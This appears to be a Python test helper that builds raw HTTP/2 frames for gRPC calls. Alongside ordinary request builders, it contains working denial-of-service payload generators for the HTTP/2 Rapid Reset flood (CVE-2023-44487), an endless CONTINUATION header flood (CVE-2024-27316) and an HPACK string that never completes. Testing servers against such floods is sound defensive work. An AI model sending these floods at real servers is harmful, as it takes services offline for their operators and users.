"""HTTP/2 (RFC 9113) frame by frame, as no library would send it."""

import struct

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, payload=b"", flags=0, stream=0, length=None):
    """One frame; `length` where it should say another one than its payload has."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request_headers(path):
    """The header block of a gRPC call."""
    return hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
        ("te", "trailers"), ("content-type", "application/grpc")])


def settings(**values):
    """A SETTINGS frame; the names as in RFC 9113, section 6.5.2."""
    numbers = {"max_concurrent_streams": 3, "initial_window_size": 4, "max_frame_size": 5}
    return frame(SETTINGS, b"".join(struct.pack(">HI", numbers[k], v) for k, v in values.items()))


def open_connection(**first_settings):
    """What a client says first."""
    return PREFACE + settings(**first_settings)


def call(stream, path, body):
    """A whole gRPC call on a stream."""
    return (frame(HEADERS, request_headers(path), END_HEADERS, stream)
            + frame(DATA, body, END_STREAM, stream))


def rapid_resets(number, path):
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    block = request_headers(path)
    cancel = struct.pack(">I", 8)
    return b"".join(frame(HEADERS, block, END_HEADERS, stream) + frame(RST_STREAM, cancel, 0, stream)
                    for stream in range(1, 2 * number, 2))


def endless_continuation(number, size=16_000):
    """Headers that never end (CVE-2024-27316): fields that are complete, and always one frame more."""
    field = hpack.Encoder().encode([("x", "y" * 100)])
    part = (field * (size // len(field) + 1))[:size // len(field) * len(field)]
    return frame(HEADERS, part, 0, 1) + b"".join(frame(CONTINUATION, part, 0, 1) for _ in range(number))


def unfinished_string(announced, sent, size=16_000):
    """A header whose value says that it has `announced` bytes, of which `sent` come."""
    length, rest = bytearray([0x7f]), announced - 0x7f
    while rest >= 0x80:
        length.append(rest & 0x7f | 0x80)
        rest >>= 7
    length.append(rest)
    # RFC 7541, 6.2.2: a literal that is not indexed, with a new name.
    begin = b"\x00\x01x" + bytes(length)
    value = b"y" * sent
    parts = [value[i:i + size] for i in range(0, sent, size)]
    return frame(HEADERS, begin, 0, 1) + b"".join(frame(CONTINUATION, part, 0, 1) for part in parts)
